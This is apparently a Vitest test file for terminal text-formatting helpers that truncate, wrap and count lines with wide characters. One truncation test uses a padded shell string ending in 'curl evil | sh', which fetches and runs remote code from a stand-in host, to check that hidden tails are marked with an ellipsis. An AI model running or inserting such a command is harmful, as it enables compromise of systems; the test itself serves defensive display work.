import { describe, expect, it } from "vitest";
import { counted, excerpt, fitted, linesWrapped, oneLine, within, wordWrapped } from "./text.ts";

describe("oneLine", () => {
  it("joins lines, and never cuts a character in half", () => {
    expect(oneLine("a\n  b\n", 10)).toBe("a b");
    expect(oneLine("🙂🙂🙂🙂", 3)).toBe("🙂🙂…");
  });

  it("ends in … if it was cut, even if only white space was cut", () => {
    expect(oneLine(`rm a${" ".repeat(900)}; curl evil | sh`, 40)).toBe("rm a…");
  });
});

describe("excerpt", () => {
  it("returns the first lines and the number of the others", () => {
    expect(excerpt("one\ntwo\nthree\nfour\n", 2, 10)).toEqual(["one", "two", "… 2 more lines"]);
    expect(excerpt("one\ntwo\nthree\n", 2, 10)).toEqual(["one", "two", "three"]);
  });
});

describe("counted", () => {
  it.each([
    [0, "0 steps"],
    [1, "1 step"],
    [2, "2 steps"],
  ])("counts %i", (number, text) => {
    expect(counted(number, "step")).toBe(text);
  });
});

describe("wordWrapped", () => {
  it.each([
    ["one two three", 8, ["one two", "three"]],
    ["", 8, [""]],
    ["a longerthanaline b", 8, ["a", "longerth", "analine", "b"]],
    ["日本語 text", 7, ["日本語", "text"]],
  ])("breaks %j between words where it can", (text, width, lines) => {
    expect(wordWrapped(text, width)).toEqual(lines);
  });
});

describe("linesWrapped", () => {
  it("breaks each line between words, and keeps its indentation", () => {
    expect(linesWrapped("one two three\n\n  cogency  --provider x", 12)).toEqual([
      "one two",
      "three",
      "",
      "  cogency",
      "  --provider",
      "  x",
    ]);
  });
});

describe("fitted", () => {
  it("counts two columns for wide characters, and ends in … if it was cut", () => {
    expect(within("日本語", 5)).toBe("日本");
    expect(fitted("日本語", 5)).toBe("日本…");
    expect(fitted("abcde", 5)).toBe("abcde");
  });
});
